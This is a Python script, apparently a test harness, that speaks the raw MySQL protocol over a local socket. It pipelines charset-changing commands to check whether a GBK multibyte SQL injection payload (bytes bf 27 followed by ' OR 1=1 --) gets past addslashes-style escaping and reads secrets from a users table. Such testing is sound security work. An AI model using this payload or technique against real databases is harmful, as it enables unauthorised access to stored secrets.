"""A raw MySQL protocol client (no driver) that writes several commands
before reading any answer.
   python3 mysql_pipeline.py SOCKET pipeline|early|reset|attributes|tracked-call|var-pipeline|var-eof attack|legit MARKER
pipeline: after the login, `SET NAMES gbk` and the query as two COM_QUERY
packets in one write; early: the handshake response (collation gbk) and the
query in one write, before the login OK; reset: login with collation gbk,
`SET NAMES utf8mb4`, COM_RESET_CONNECTION (back to gbk), the query;
attributes: as pipeline, the handshake response asking for
CLIENT_QUERY_ATTRIBUTES, which MariaDB does not offer; tracked-call: login
with collation gbk asking for session tracking and for OK packets in place
of EOF (CLIENT_DEPRECATE_EOF), CALL p_latin1() (a procedure that runs SET
NAMES latin1 and a SELECT, whose result's end reports latin1 from inside
it), the query; var-pipeline: SET @v = 'gbk', then SET character_set_client
= @v and the query in one write; var-eof: login asking for OK packets in
place of EOF, SET @v = 'gbk', SET character_set_client = @v, the query,
each answered before the next.  attack: bf 27 ' OR 1=1 --
escaped by addslashes in a SELECT of the secrets; legit: text that reads
alike in every character set.  Each answer is printed (ROW: / ERROR: /
OK), then the connection is asked once more."""
import socket
import struct
import sys

from mysql_proto import lenenc

sock_path, mode, what, marker = sys.argv[1:5]
s = socket.socket(socket.AF_UNIX)
s.connect(sock_path)
buf = b""


def read_exact(n):
    global buf
    while len(buf) < n:
        chunk = s.recv(65536)
        if not chunk:
            raise EOFError("connection closed")
        buf += chunk
    out, buf = buf[:n], buf[n:]
    return out


def packet():
    h = read_exact(4)
    return read_exact(h[0] | h[1] << 8 | h[2] << 16)


def frame(payload, seq=0):
    return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload


deprecate_eof = mode in ("tracked-call", "var-eof")


def more_results(p):
    """Whether an OK packet (or an OK in place of EOF) says another result follows."""
    _, i = lenenc(p, 1)
    _, i = lenenc(p, i)
    return p[i] & 0x08  # SERVER_MORE_RESULTS_EXIST


def answer():
    """Prints one command's answer (each of its results)."""
    p = packet()
    if p[0] == 0x00:
        print("OK")
        if more_results(p):
            answer()
        return
    if p[0] == 0xff:
        print("ERROR:", struct.unpack("<H", p[1:3])[0], p[9:].decode("latin1"))
        return
    columns, _ = lenenc(p, 0)
    for _ in range(columns):
        packet()
    if not deprecate_eof:
        packet()  # EOF
    while True:
        p = packet()
        if p[0] == 0xfe and (deprecate_eof or len(p) < 9):
            if (more_results(p) if deprecate_eof else p[3] & 0x08):
                answer()
            return
        n, i = lenenc(p, 0)
        print("ROW:", p[i:i + n].decode("latin1"))


def query(sql):
    return frame(b"\x03" + sql)


if what == "attack":
    raw = bytes.fromhex("bf27204f5220313d31202d2d20")
    esc = raw.replace(b"\\", b"\\\\").replace(b"'", b"\\'")
    sql = b"SELECT /*" + marker.encode() + b"*/ secret FROM users WHERE name = '" + esc + b"'"
else:
    sql = b"SELECT /*" + marker.encode() + b"*/ secret FROM users WHERE name = 'alice'"

greeting = packet()
# PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH, TRANSACTIONS, MULTI_RESULTS, CONNECT_WITH_DB
caps = 0x200 | 0x8000 | 0x80000 | 0x2000 | 0x20000 | 0x8
if mode == "attributes":
    caps |= 1 << 27
if mode == "tracked-call":
    caps |= 1 << 23 | 1 << 24  # CLIENT_SESSION_TRACK, CLIENT_DEPRECATE_EOF
if mode == "var-eof":
    caps |= 1 << 24
collation = 28 if mode in ("early", "reset", "tracked-call") else 45  # gbk_chinese_ci / utf8mb4_general_ci
response = struct.pack("<IIB23s", caps, 1 << 24, collation, b"\0" * 23) + \
    b"root\0" + b"\0" + b"qg\0" + b"mysql_native_password\0"
if mode == "early":
    s.sendall(frame(response, 1) + query(sql))
    login = packet()
    print("LOGIN:", "OK" if login[0] == 0 else login[1:].decode("latin1"))
    answer()
else:
    s.sendall(frame(response, 1))
    login = packet()
    print("LOGIN:", "OK" if login[0] == 0 else login[1:].decode("latin1"))
    if mode == "reset":
        for command in (query(b"SET NAMES utf8mb4"), frame(b"\x1f"), query(sql)):
            s.sendall(command)
            answer()
    elif mode == "tracked-call":
        for command in (query(b"CALL p_latin1()"), query(sql)):
            s.sendall(command)
            answer()
    elif mode == "var-pipeline":
        s.sendall(query(b"SET @v = 'gbk'"))
        answer()
        s.sendall(query(b"SET character_set_client = @v") + query(sql))
        answer()
        answer()
    elif mode == "var-eof":
        for command in (b"SET @v = 'gbk'", b"SET character_set_client = @v", sql):
            s.sendall(query(command))
            answer()
    else:
        s.sendall(query(b"SET NAMES gbk") + query(sql))
        answer()
        answer()
s.sendall(query(b"SELECT 'alive'"))
answer()
s.sendall(frame(b"\x01"))
